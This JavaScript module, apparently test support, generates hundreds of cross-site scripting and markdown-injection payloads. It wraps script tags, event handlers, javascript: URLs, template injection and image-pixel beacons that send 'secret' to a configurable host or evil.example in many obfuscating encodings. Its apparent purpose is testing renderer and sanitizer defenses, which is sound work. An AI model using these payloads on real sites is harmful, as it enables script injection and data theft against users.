// Text that would run a script or carry something out if a page took it for more than text (I18): kinds of
// attack, each in many dresses. `SITE` is where it would call; `__pwned` is what it would set.

const RUN = "window.__pwned=1;alert(1);fetch('SITE/run')";

/** One of each kind. */
const KINDS = [
  `<script>${RUN}</script>`, `<script src="SITE/x.js"></script>`, `<script type=module>import("SITE/m.js")</script>`,
  `<img src=x onerror="${RUN}">`, `<img src="SITE/pixel?d=secret">`, `<img srcset="SITE/a 1x, SITE/b 2x">`, `<picture><source srcset="SITE/p"><img src=x onerror="${RUN}"></picture>`,
  `<svg onload="${RUN}">`, `<svg><script>${RUN}</script></svg>`, `<svg><image href="SITE/i.svg"/></svg>`, `<svg><use href="SITE/u.svg#x"/></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="SITE/frame"></iframe>`,
  `<object data="SITE/o"></object>`, `<embed src="SITE/e">`, `<video poster="SITE/v" src="SITE/v2" onerror="${RUN}"></video>`, `<audio src="SITE/a" autoplay onerror="${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`, `<a href="SITE/?q=secret" ping="SITE/ping">x</a>`, `<form action="SITE/f"><input name=a value=secret><button autofocus>go</button></form>`, `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus="${RUN}">`, `<select autofocus onfocus="${RUN}"><option>x</select>`, `<textarea autofocus onfocus="${RUN}"></textarea>`, `<xss tabindex=1 autofocus onfocus="${RUN}">x</xss>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`, `<marquee onstart="${RUN}">x</marquee>`, `<body onload="${RUN}">`, `<div onpointerenter="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<meta http-equiv="refresh" content="0;url=SITE/r">`, `<base href="SITE/">`, `<link rel=stylesheet href="SITE/s.css">`, `<link rel=prefetch href="SITE/pre">`, `<link rel=dns-prefetch href="SITE/">`,
  `<style>@import url("SITE/i.css");*{background:url("SITE/bg")}</style>`, `<div style="background:url(SITE/bg2)">x</div>`, `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<!--><img src=x onerror="${RUN}">-->`, `<![CDATA[<script>${RUN}</script>]]>`,
  `![x](SITE/pixel?d=secret)`, `![x][r]\n\n[r]: SITE/ref?d=secret`, `[![x](SITE/in-link)](SITE/out)`, `[click](javascript:${RUN})`, `[click](data:text/html,<script>${RUN}</script>)`, `[click](vbscript:x)`, `[click](//evil.example/x)`, `[click](/\\evil.example/x)`, `[click](SITE/?d=secret "a title")`,
  `<javascript:${RUN}>`, `[r]: javascript:${RUN}\n\n[r]`, `[x](java\tscript:${RUN})`, `[x](&#106;avascript:${RUN})`, `[x](%6Aavascript:${RUN})`,
  `" onmouseover="${RUN}" x="`, `' onfocus='${RUN}' autofocus='`, `"><script>${RUN}</script>`, `'><img src=x onerror=${RUN}>`, `</textarea></title></style></script><script>${RUN}</script>`, `javascript:/*--></title></style></textarea></script><svg/onload='${RUN}'>`,
  "${" + RUN + "}", `{{constructor.constructor("${RUN}")()}}`, "`;" + RUN + ";`", `\u202e<script>${RUN}</script>\u202c`, `<scr\u0000ipt>${RUN}</scr\u0000ipt>`, `SITE/autolink?d=secret`,
];

/** @param {string} text @param {(letter: string) => string} code */
const coded = (text, code) => [...text].map((letter) => /[<>"'&:/()]/.test(letter) ? code(letter) : letter).join("");

/** What it is dressed in. @type {Array<(text: string) => string>} */
const DRESSES = [
  (text) => text,
  (text) => `- ${text}\n- end`,
  (text) => `> ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("|", "\\|").replaceAll("\n", " ")} | x |`,
  (text) => text.replace(/<(\/?)([a-z]+)/gi, (_, slash, tag) => `<${slash}${tag.toUpperCase()}`),
  (text) => coded(text, (letter) => `&#${letter.charCodeAt(0)};`),
  (text) => coded(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => coded(text, (letter) => encodeURIComponent(letter)),
  (text) => text.replaceAll("<", "<\t").replaceAll("=", "\n="),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replace(/>$/, ""),
  (text) => `[${text}](SITE/link)`,
  (text) => `![${text}](SITE/image)`,
  (text) => `**${text}**`,
  (text) => `# ${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\`\n${text}`,
  (text) => `\`${text}\` ${text}`,
  (text) => `<!-- ${text} --> ${text}`,
  (text) => `</p></div>${text}`,
  (text) => `text before ${text} and after`,
  (text) => `\u0000${text}\ufeff`,
];

/** As many as wanted, every kind before any dress a second time. @param {number} count @param {string} site */
export function payloads(count, site) {
  const all = DRESSES.flatMap((dress) => KINDS.map((kind) => dress(kind).replaceAll("SITE", site)));
  if (all.length < count) throw new Error(`there are only ${all.length}`);
  return all.slice(0, count);
}
